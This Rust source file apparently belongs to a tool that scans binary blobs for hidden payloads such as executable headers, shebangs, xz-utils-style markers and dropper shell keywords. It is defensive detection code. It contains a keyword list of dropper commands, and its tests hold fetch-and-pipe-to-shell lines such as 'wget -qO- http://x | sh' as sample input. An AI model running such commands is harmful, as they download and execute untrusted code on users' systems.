//! The payload scan: executables, scripts and dropper commands hidden in a
//! window of a blob (the xz-utils backdoor hid its stages in binary test
//! files behind markers such as `####Hello####`).

use std::ops::Range;

use super::bytes::{bytes_at, u16_at, u32_at};
use super::filetype::{pe_header, FileType, ELF, MACHO, MACHO_FAT, MZ, PE};
use super::text::is_text_byte;

/// What a [`Finding`] found.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum FindingKind {
    /// `\x7fELF` with a valid class, data and version byte.
    ElfHeader,
    /// `MZ` whose `e_lfanew` points at `PE\0\0`.
    PeHeader,
    /// A Mach-O or fat Mach-O header with a known CPU type.
    MachOHeader,
    /// `#!/` (or `#! /`): the start of a script.
    Shebang,
    /// Shell commands typical of droppers (`eval `, `| sh`, `base64 -d`,
    /// …), merged per line.
    ShellCommand,
    /// `####Word####`, the markers the xz-utils backdoor searched its test
    /// files for.
    ScriptMarker,
}

impl FindingKind {
    /// Every kind.
    pub const ALL: [FindingKind; 6] = [
        FindingKind::ElfHeader,
        FindingKind::PeHeader,
        FindingKind::MachOHeader,
        FindingKind::Shebang,
        FindingKind::ShellCommand,
        FindingKind::ScriptMarker,
    ];

    /// A short human label.
    pub fn label(self) -> &'static str {
        match self {
            FindingKind::ElfHeader => "ELF header",
            FindingKind::PeHeader => "PE header",
            FindingKind::MachOHeader => "Mach-O header",
            FindingKind::Shebang => "shebang",
            FindingKind::ShellCommand => "shell command",
            FindingKind::ScriptMarker => "script marker",
        }
    }

    /// An executable's header (ELF, PE, Mach-O), not a script.
    pub fn is_executable(self) -> bool {
        matches!(self, FindingKind::ElfHeader | FindingKind::PeHeader | FindingKind::MachOHeader)
    }

    /// Which kind names a merged finding.
    fn rank(self) -> u8 {
        match self {
            FindingKind::ElfHeader | FindingKind::PeHeader | FindingKind::MachOHeader => 3,
            FindingKind::Shebang => 2,
            FindingKind::ScriptMarker => 1,
            FindingKind::ShellCommand => 0,
        }
    }
}

/// Something in a blob that may be a hidden payload.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    /// Absolute offset in the blob.
    pub offset: u64,
    /// Bytes covered (a header's size, a script line, a marker).
    pub len: u64,
    pub kind: FindingKind,
    /// A description, or an escaped excerpt of the bytes: printable ASCII
    /// only, other bytes escaped as `\xNN`, `\n`, `\t`, `\r` (and `…` where an
    /// excerpt is cut).
    pub detail: String,
}

impl Finding {
    /// The absolute offsets the finding covers.
    pub fn range(&self) -> Range<u64> {
        self.offset..self.offset.saturating_add(self.len)
    }
}

/// A finding before merging, in window positions.
struct Raw {
    start: usize,
    end: usize,
    kind: FindingKind,
    detail: String,
    keywords: Vec<&'static str>,
}

impl Raw {
    fn new(start: usize, end: usize, kind: FindingKind, detail: String) -> Raw {
        Raw { start, end, kind, detail, keywords: Vec::new() }
    }
}

/// Longest excerpt, in bytes of the blob.
const EXCERPT_MAX: usize = 120;
/// How far a shell line's excerpt reaches back before the first keyword.
const EXCERPT_BEFORE: usize = 40;
/// Shell commands further apart than this on one line are separate findings.
const SAME_LINE_GAP: usize = 256;

fn is_word_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

fn is_line_end(b: u8) -> bool {
    matches!(b, b'\n' | b'\r' | 0)
}

/// Bytes made safe to show: printable ASCII as is, everything else escaped.
/// The result holds only printable ASCII, so it is safe by construction;
/// whoever prints a detail still passes it through the sanitizer.
fn escape_bytes(bytes: &[u8]) -> String {
    const HEX_DIGITS: &[u8; 16] = b"0123456789abcdef";
    let mut out = String::with_capacity(bytes.len());
    for &b in bytes {
        match b {
            b' '..=b'~' => out.push(char::from(b)),
            b'\n' => out.push_str("\\n"),
            b'\r' => out.push_str("\\r"),
            b'\t' => out.push_str("\\t"),
            _ => {
                out.push_str("\\x");
                out.push(char::from(HEX_DIGITS[usize::from(b >> 4)]));
                out.push(char::from(HEX_DIGITS[usize::from(b & 0xf)]));
            }
        }
    }
    out
}

/// The end of the line that starts at or contains `from`, at most
/// `max` bytes on.
fn line_end(window: &[u8], from: usize, max: usize) -> usize {
    let limit = from.saturating_add(max).min(window.len());
    window.get(from..limit).and_then(|rest| rest.iter().position(|&b| is_line_end(b))).map_or(limit, |i| from + i)
}

/// An excerpt of the line around `start..end`, with `…` where cut.
fn line_excerpt(window: &[u8], start: usize, end: usize) -> String {
    let floor = start.saturating_sub(EXCERPT_BEFORE);
    let mut from = start;
    while from > floor && window.get(from - 1).is_some_and(|&b| !is_line_end(b)) {
        from -= 1;
    }
    let to = line_end(window, end, EXCERPT_MAX.saturating_sub(end.saturating_sub(from)).max(16));
    let cut_before = from > 0 && window.get(from - 1).is_some_and(|&b| !is_line_end(b));
    let cut_after = window.get(to).is_some_and(|&b| !is_line_end(b));
    let mut text = String::new();
    if cut_before {
        text.push('…');
    }
    text.push_str(&escape_bytes(window.get(from..to).unwrap_or_default()));
    if cut_after {
        text.push('…');
    }
    text
}

fn elf_machine(machine: u16) -> Option<&'static str> {
    Some(match machine {
        0x03 => "x86",
        0x08 => "MIPS",
        0x14 => "PowerPC",
        0x15 => "PowerPC64",
        0x16 => "S/390",
        0x28 => "ARM",
        0x2b => "SPARC V9",
        0x3e => "x86-64",
        0xb7 => "AArch64",
        0xf3 => "RISC-V",
        0x102 => "LoongArch",
        _ => return None,
    })
}

fn elf_at(window: &[u8], at: usize) -> Option<Raw> {
    if !bytes_at(window, at, b"\x7fELF") {
        return None;
    }
    let class = *window.get(at.checked_add(4)?)?;
    let data = *window.get(at.checked_add(5)?)?;
    let version = *window.get(at.checked_add(6)?)?;
    if !matches!(class, 1 | 2) || !matches!(data, 1 | 2) || version != 1 {
        return None;
    }
    let little = data == 1;
    let mut detail =
        format!("ELF {}-bit {}", if class == 1 { 32 } else { 64 }, if little { "little-endian" } else { "big-endian" });
    if let Some(kind) = u16_at(window, at + 16, little) {
        let kind = match kind {
            1 => "relocatable",
            2 => "executable",
            3 => "shared object",
            4 => "core dump",
            _ => "unknown type",
        };
        detail.push_str(", ");
        detail.push_str(kind);
    }
    if let Some(machine) = u16_at(window, at + 18, little) {
        match elf_machine(machine) {
            Some(name) => detail.push_str(&format!(", {name}")),
            None => detail.push_str(&format!(", machine {machine:#x}")),
        }
    }
    let size = if class == 1 { 52 } else { 64 };
    Some(Raw::new(at, at.saturating_add(size).min(window.len()), FindingKind::ElfHeader, detail))
}

fn pe_at(window: &[u8], at: usize) -> Option<Raw> {
    let lfanew = pe_header(window, at)?;
    let pe = at.checked_add(lfanew)?;
    let machine = match u16_at(window, pe + 4, true) {
        Some(0x14c) => "x86".to_string(),
        Some(0x8664) => "x86-64".to_string(),
        Some(0xaa64) => "ARM64".to_string(),
        Some(0x1c0 | 0x1c4) => "ARM".to_string(),
        Some(other) => format!("machine {other:#x}"),
        None => "machine unknown".to_string(),
    };
    let flavour = match u16_at(window, pe + 24, true) {
        Some(0x10b) => "PE32",
        Some(0x20b) => "PE32+",
        _ => "PE",
    };
    let dll = u16_at(window, pe + 22, true).is_some_and(|c| c & 0x2000 != 0);
    let detail =
        format!("{flavour} {}, {machine}, PE signature at +{lfanew:#x}", if dll { "DLL" } else { "executable" });
    // The DOS header, stub and COFF header.
    let end = pe.saturating_add(24).min(window.len());
    Some(Raw::new(at, end, FindingKind::PeHeader, detail))
}

fn macho_cpu(cpu: u32) -> Option<&'static str> {
    Some(match cpu {
        7 => "x86",
        0x0100_0007 => "x86-64",
        12 => "ARM",
        0x0100_000c => "arm64",
        0x0200_000c => "arm64_32",
        18 => "PowerPC",
        0x0100_0012 => "PowerPC64",
        _ => return None,
    })
}

fn macho_at(window: &[u8], at: usize) -> Option<Raw> {
    let magic = u32_at(window, at, false)?;
    let (bits, little) = match magic {
        0xfeed_face => (32, false),
        0xfeed_facf => (64, false),
        0xcefa_edfe => (32, true),
        0xcffa_edfe => (64, true),
        0xcafe_babe | 0xcafe_babf => {
            // Fat: a small architecture count, then a known CPU type.
            // (A Java class has its version here instead, always >= 45.)
            let count = u32_at(window, at + 4, false)?;
            if !(1..=44).contains(&count) {
                return None;
            }
            let cpu = macho_cpu(u32_at(window, at + 8, false)?)?;
            let entry = if magic == 0xcafe_babf { 32 } else { 20 };
            let len = 8usize.saturating_add((count as usize).saturating_mul(entry));
            let detail = format!("Mach-O universal binary, {count} architecture(s), first {cpu}");
            return Some(Raw::new(at, at.saturating_add(len).min(window.len()), FindingKind::MachOHeader, detail));
        }
        _ => return None,
    };
    let cpu = macho_cpu(u32_at(window, at + 4, little)?)?;
    let file_type = match u32_at(window, at + 12, little)? {
        1 => "object",
        2 => "executable",
        6 => "dynamic library",
        8 => "bundle",
        t @ 3..=12 => return Some(macho_raw(window, at, bits, little, cpu, &format!("file type {t}"))),
        _ => return None,
    };
    Some(macho_raw(window, at, bits, little, cpu, file_type))
}

fn macho_raw(window: &[u8], at: usize, bits: usize, little: bool, cpu: &str, file_type: &str) -> Raw {
    let endian = if little { "little-endian" } else { "big-endian" };
    let detail = format!("Mach-O {bits}-bit {endian} {file_type}, {cpu}");
    let size = if bits == 32 { 28 } else { 32 };
    Raw::new(at, at.saturating_add(size).min(window.len()), FindingKind::MachOHeader, detail)
}

fn is_path_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'/' | b'.' | b'_' | b'-' | b'+')
}

fn is_blank_or_end(b: u8) -> bool {
    matches!(b, b' ' | b'\t') || is_line_end(b)
}

/// `#!/path` or `#! /path`: an interpreter path of at least two more path
/// characters after the `/`, then a blank or the line's end (random bytes
/// hold `#!/` every 16 MiB; they rarely hold a path after it).
fn shebang_at(window: &[u8], at: usize) -> Option<Raw> {
    let path = if bytes_at(window, at, b"#!/") {
        at + 2
    } else if bytes_at(window, at, b"#! /") {
        at + 3
    } else {
        return None;
    };
    let rest = window.get(path + 1..)?;
    let len = rest.iter().take(128).take_while(|&&b| is_path_byte(b)).count();
    if len < 2 || !rest.get(len).is_none_or(|&b| is_blank_or_end(b)) {
        return None;
    }
    let end = line_end(window, at, EXCERPT_MAX);
    let mut detail = escape_bytes(window.get(at..end).unwrap_or_default());
    if window.get(end).is_some_and(|&b| !is_line_end(b)) {
        detail.push('…');
    }
    Some(Raw::new(at, end, FindingKind::Shebang, detail))
}

/// `####Word####`: a run of at least four `#`, a word of 1 to 64 letters,
/// digits or `_`, and at least four `#` again.
fn marker_at(window: &[u8], at: usize) -> Option<Raw> {
    const MIN_HASHES: usize = 4;
    const MAX_WORD: usize = 64;
    if at > 0 && window.get(at - 1) == Some(&b'#') {
        return None; // Not the start of the run.
    }
    let rest = window.get(at..)?;
    let open = rest.iter().take_while(|&&b| b == b'#').count();
    if open < MIN_HASHES {
        return None;
    }
    let word = rest.get(open..)?.iter().take(MAX_WORD + 1).take_while(|&&b| is_word_byte(b)).count();
    if word == 0 || word > MAX_WORD {
        return None;
    }
    let close = rest.get(open + word..)?.iter().take_while(|&&b| b == b'#').count();
    if close < MIN_HASHES {
        return None;
    }
    let end = at + open + word + close;
    let detail = format!("marker {}", escape_bytes(window.get(at..end).unwrap_or_default()));
    Some(Raw::new(at, end, FindingKind::ScriptMarker, detail))
}

/// A dropper's vocabulary. A trailing space also matches a tab; patterns
/// that start with a letter need a word boundary before them, and command
/// names (`boundary_after`) one after them.
struct Keyword {
    text: &'static [u8],
    boundary_after: bool,
}

const KEYWORDS: &[Keyword] = &[
    Keyword { text: b"eval ", boundary_after: false },
    Keyword { text: b"exec ", boundary_after: false },
    Keyword { text: b"/bin/sh", boundary_after: true },
    Keyword { text: b"/bin/bash", boundary_after: true },
    Keyword { text: b"curl ", boundary_after: false },
    Keyword { text: b"wget ", boundary_after: false },
    Keyword { text: b"base64 -d", boundary_after: false },
    Keyword { text: b"base64 --decode", boundary_after: false },
    Keyword { text: b"chmod +x", boundary_after: false },
    Keyword { text: b"export ", boundary_after: false },
    Keyword { text: b"head -c", boundary_after: false },
    Keyword { text: b"tail -c", boundary_after: false },
    Keyword { text: b"tr \"", boundary_after: false },
    Keyword { text: b"tr '", boundary_after: false },
    Keyword { text: b"xz -d", boundary_after: false },
    Keyword { text: b"xz --decompress", boundary_after: false },
    Keyword { text: b"sed ", boundary_after: false },
];

fn boundary_before(window: &[u8], at: usize) -> bool {
    at == 0 || window.get(at - 1).is_none_or(|&b| !is_word_byte(b))
}

fn boundary_after(window: &[u8], end: usize) -> bool {
    window.get(end).is_none_or(|&b| !is_word_byte(b))
}

fn keyword_name(text: &'static [u8]) -> &'static str {
    std::str::from_utf8(text).map_or("?", str::trim_end)
}

fn keywords_at(window: &[u8], at: usize, first: u8, raw: &mut Vec<Raw>) {
    for keyword in KEYWORDS.iter().filter(|k| k.text.first() == Some(&first)) {
        let Some(candidate) = window.get(at..at.saturating_add(keyword.text.len())) else {
            continue;
        };
        let matches = candidate.len() == keyword.text.len()
            && candidate.iter().zip(keyword.text).all(|(&b, &k)| b == k || (k == b' ' && b == b'\t'));
        if !matches {
            continue;
        }
        if first.is_ascii_alphanumeric() && !boundary_before(window, at) {
            continue;
        }
        let end = at + keyword.text.len();
        if (keyword.boundary_after && !boundary_after(window, end)) || !in_text(window, at, end) {
            continue;
        }
        let mut r = Raw::new(at, end, FindingKind::ShellCommand, String::new());
        r.keywords.push(keyword_name(keyword.text));
        raw.push(r);
    }
}

/// `|`, optional blanks, then `sh` or `bash` ending the command (a blank,
/// `;`, `)`, `&`, `|`, a quote or the line's end follows), in text.
fn pipe_at(window: &[u8], at: usize) -> Option<Raw> {
    let rest = window.get(at.checked_add(1)?..)?;
    let blanks = rest.iter().take(8).take_while(|&&b| b == b' ' || b == b'\t').count();
    let word = rest.get(blanks..)?;
    let (name, len) = if word.starts_with(b"sh") {
        ("| sh", 2)
    } else if word.starts_with(b"bash") {
        ("| bash", 4)
    } else {
        return None;
    };
    let end = at + 1 + blanks + len;
    if !window.get(end).is_none_or(|&b| is_blank_or_end(b) || matches!(b, b';' | b')' | b'&' | b'|' | b'"' | b'\''))
        || !in_text(window, at, end)
    {
        return None;
    }
    let mut r = Raw::new(at, end, FindingKind::ShellCommand, String::new());
    r.keywords.push(name);
    Some(r)
}

/// Whether a shell keyword at `start..end` sits in text: the byte before
/// it (if any) is text, and at least 3 in 4 of the up to 16 bytes on each
/// side, up to the line's ends, are printable ASCII or blanks. Random
/// bytes hold `|sh` every 16 MiB; they rarely hold it inside text.
fn in_text(window: &[u8], start: usize, end: usize) -> bool {
    const CONTEXT: usize = 16;
    if start > 0 && !window.get(start - 1).is_some_and(|&b| is_text_byte(b) || is_line_end(b)) {
        return false;
    }
    let before = window.get(start.saturating_sub(CONTEXT)..start).unwrap_or_default();
    let before = before.iter().rev().take_while(|&&b| !is_line_end(b));
    let after = window.get(end..end.saturating_add(CONTEXT).min(window.len())).unwrap_or_default();
    let after = after.iter().take_while(|&&b| !is_line_end(b));
    let (mut text, mut all) = (0usize, 0usize);
    for &b in before.chain(after) {
        all += 1;
        text += usize::from(is_text_byte(b));
    }
    text * 4 >= all * 3
}

/// Whether two shell findings sit on one line, close together.
fn same_line(window: &[u8], end: usize, start: usize) -> bool {
    start >= end
        && start - end <= SAME_LINE_GAP
        && window.get(end..start).is_some_and(|gap| !gap.iter().any(|&b| is_line_end(b)))
}

/// Looks for hidden payloads in a window: executable headers (ELF with a
/// valid class, data and version; PE whose `e_lfanew` reaches `PE\0\0`;
/// Mach-O and fat Mach-O with a known CPU), `#!/` shebangs, `####Word####`
/// markers, and shell commands droppers use (`eval `, `exec `, `| sh`,
/// `| bash`, `/bin/sh`, `/bin/bash`, `curl `, `wget `, `base64 -d`,
/// `chmod +x`, `export `, `head -c`, `tail -c`, `tr "`, `xz -d`, `sed `),
/// each at a word boundary (`evaluate` and `exec_prefix` do not count) and
/// surrounded by text rather than random bytes.
///
/// Offsets are absolute (`window_offset` plus the position). Overlapping
/// script findings are merged (a shebang absorbs its `/bin/sh`), and the
/// shell commands of one line become one finding whose detail lists them
/// and shows the line; executable headers are never merged into anything.
/// Sorted by offset. See [`suspicious`] to drop the file's own header.
pub fn scan_payloads(window: &[u8], window_offset: u64) -> Vec<Finding> {
    let mut raw: Vec<Raw> = Vec::new();
    let mut at = 0;
    while let Some(found_at) = next_candidate(window, at) {
        at = found_at;
        let Some(&b) = window.get(at) else { break };
        let found = match b {
            0x7f => elf_at(window, at),
            b'M' => pe_at(window, at),
            0xfe | 0xce | 0xcf | 0xca => macho_at(window, at),
            b'#' => shebang_at(window, at).or_else(|| marker_at(window, at)),
            b'|' => pipe_at(window, at),
            _ => None,
        };
        raw.extend(found);
        if b.is_ascii_lowercase() || b == b'/' {
            keywords_at(window, at, b, &mut raw);
        }
        at += 1;
    }
    raw.sort_by_key(|r| (r.start, std::cmp::Reverse(r.end)));
    merge(raw, window).into_iter().map(|r| finding(r, window, window_offset)).collect()
}

/// The next position from `from` on that may start a finding: most bytes
/// start nothing, and a tight loop of table look-ups passes them by.
#[inline(never)]
fn next_candidate(window: &[u8], from: usize) -> Option<usize> {
    let rest = window.get(from..)?;
    rest.iter().position(|&b| CAN_START[usize::from(b)]).map(|i| from + i)
}

/// The bytes [`scan_payloads`] looks at more closely: the first bytes of
/// headers, `#`, `|`, and the first bytes of [`KEYWORDS`].
static CAN_START: [bool; 256] = can_start();

const fn can_start() -> [bool; 256] {
    let mut table = [false; 256];
    let heads = [0x7f, b'M', 0xfe, 0xce, 0xcf, 0xca, b'#', b'|'];
    let mut i = 0;
    while i < heads.len() {
        table[heads[i] as usize] = true;
        i += 1;
    }
    let mut k = 0;
    while k < KEYWORDS.len() {
        table[KEYWORDS[k].text[0] as usize] = true;
        k += 1;
    }
    table
}

fn merge(raw: Vec<Raw>, window: &[u8]) -> Vec<Raw> {
    let mut out: Vec<Raw> = Vec::with_capacity(raw.len());
    // The last script (non-executable) finding in `out`, which later
    // script findings may merge into.
    let mut open: Option<usize> = None;
    for r in raw {
        if r.kind.is_executable() {
            out.push(r);
            continue;
        }
        if let Some(cur) = open.and_then(|i| out.get_mut(i)) {
            let overlaps = r.start < cur.end;
            let shell_line = cur.kind == FindingKind::ShellCommand
                && r.kind == FindingKind::ShellCommand
                && same_line(window, cur.end, r.start);
            if overlaps || shell_line {
                cur.end = cur.end.max(r.end);
                if r.kind.rank() > cur.kind.rank() {
                    cur.kind = r.kind;
                    cur.detail = r.detail;
                }
                for k in r.keywords {
                    if !cur.keywords.contains(&k) {
                        cur.keywords.push(k);
                    }
                }
                continue;
            }
        }
        open = Some(out.len());
        out.push(r);
    }
    out
}

fn finding(r: Raw, window: &[u8], window_offset: u64) -> Finding {
    let detail = match r.kind {
        FindingKind::ShellCommand => {
            format!("{}: {}", r.keywords.join(", "), line_excerpt(window, r.start, r.end))
        }
        _ => r.detail,
    };
    Finding {
        offset: window_offset.saturating_add(r.start as u64),
        len: r.end.saturating_sub(r.start) as u64,
        kind: r.kind,
        detail,
    }
}

/// The findings worth a reviewer's attention: all of them except the
/// executable header at offset 0 of a file that *is* that executable (an
/// ELF file starts with an ELF header; that is no payload).
pub fn suspicious<'a>(findings: &'a [Finding], own_type: Option<&FileType>) -> Vec<&'a Finding> {
    let own = own_type.map(|t| t.name);
    findings
        .iter()
        .filter(|f| {
            let is_own = f.offset == 0
                && match f.kind {
                    FindingKind::ElfHeader => own == Some(ELF),
                    FindingKind::PeHeader => matches!(own, Some(PE | MZ)),
                    FindingKind::MachOHeader => matches!(own, Some(MACHO | MACHO_FAT)),
                    _ => false,
                };
            !is_own
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspect::file_type;

    #[test]
    fn shell_keywords_need_word_boundaries() {
        let text = b"we evaluate the exec_prefix; reexec nothing; used based curled; bash_completion | shuf";
        assert_eq!(scan_payloads(text, 0), Vec::<Finding>::new());
        let hits = scan_payloads(b"x=1\ncurl -s http://x/a |bash\n", 10);
        assert_eq!(hits.len(), 1, "{hits:?}");
        assert_eq!(hits[0].offset, 14);
        assert_eq!(hits[0].kind, FindingKind::ShellCommand);
        assert_eq!(hits[0].detail, "curl, | bash: curl -s http://x/a |bash");
    }

    #[test]
    fn a_shebang_absorbs_its_interpreter() {
        let hits = scan_payloads(b"\0\0#!/bin/sh -e\n", 0);
        assert_eq!(hits.len(), 1, "{hits:?}");
        assert_eq!(hits[0].kind, FindingKind::Shebang);
        assert_eq!((hits[0].offset, hits[0].len), (2, 12));
        assert_eq!(hits[0].detail, "#!/bin/sh -e");
    }

    #[test]
    fn random_bytes_are_not_scripts() {
        // Both were found in 64 MiB of random data before the checks for an
        // interpreter path and for surrounding text.
        assert!(scan_payloads(b"\x01#!/\x86\xb4l\x8d\x01\x9e]\xfb", 0).is_empty());
        assert!(scan_payloads(b"\x9c\xac\x03[\x10|sh\xc9\x07q\\\x0b\xf2\xf8", 0).is_empty());
        assert!(scan_payloads(b"Z\xfd\x90^\xc1\x12\xa2\xaa\xf4ZJ1\xcb|sh\x8c\x8aWDwb", 0).is_empty());
        // Real ones still count, also at the window's end.
        for script in [&b"#! /usr/bin/env python3\n"[..], b"#!/bin/sh", b"\xff\xfe\0#!/bin/bash -x\n"] {
            let hits = scan_payloads(script, 0);
            assert_eq!(hits.iter().map(|f| f.kind).collect::<Vec<_>>(), [FindingKind::Shebang], "{script:?}");
        }
        let hits = scan_payloads(b"\xff\xfe\0wget -qO- http://x | sh\0\x8c", 0);
        assert_eq!(hits.len(), 1, "{hits:?}");
        assert_eq!(hits[0].detail, "wget, | sh: wget -qO- http://x | sh");
    }

    #[test]
    fn executable_headers() {
        let mut pe = vec![0u8; 0x100];
        pe[..2].copy_from_slice(b"MZ");
        pe[0x3c] = 0x80;
        pe[0x80..0x84].copy_from_slice(b"PE\0\0");
        pe[0x84..0x86].copy_from_slice(&0x8664u16.to_le_bytes());
        let mut blob = vec![0x55u8; 32];
        blob.extend_from_slice(&pe);
        let hits = scan_payloads(&blob, 0);
        assert_eq!(hits.len(), 1, "{hits:?}");
        assert_eq!((hits[0].kind, hits[0].offset), (FindingKind::PeHeader, 32));
        assert!(hits[0].detail.contains("x86-64"), "{}", hits[0].detail);
        // MZ without a PE signature is not reported.
        assert!(scan_payloads(b"MZ and then some words", 0).is_empty());

        let macho = b"\xcf\xfa\xed\xfe\x0c\0\0\x01\0\0\0\0\x02\0\0\0";
        let hits = scan_payloads(macho, 4096);
        assert_eq!(hits.len(), 1);
        assert_eq!((hits[0].kind, hits[0].offset), (FindingKind::MachOHeader, 4096));
        assert!(hits[0].detail.contains("arm64"), "{}", hits[0].detail);
        // A Java class is not a fat Mach-O.
        assert!(scan_payloads(b"\xca\xfe\xba\xbe\0\0\0\x34\0\x10", 0).is_empty());
        // An ELF magic with a nonsense class is not a header.
        assert!(scan_payloads(b"\x7fELF\x09\x01\x01", 0).is_empty());

        let own = file_type(macho);
        assert_eq!(own.map(|t| t.name), Some("macho"));
        let all = scan_payloads(macho, 0);
        assert!(suspicious(&all, own.as_ref()).is_empty());
        assert_eq!(suspicious(&all, None).len(), 1);
        assert_eq!(suspicious(&all, file_type(b"\x7fELF").as_ref()).len(), 1);
    }

    #[test]
    fn excerpts_are_escaped() {
        let hits = scan_payloads(b"\x1b[2J eval \"$(printf '\\x41')\"\x07\x9b\n", 0);
        assert_eq!(hits.len(), 1);
        let detail = &hits[0].detail;
        assert!(!detail.chars().any(char::is_control), "{detail:?}");
        assert_eq!(detail, "eval: \\x1b[2J eval \"$(printf '\\x41')\"\\x07\\x9b");
    }
}
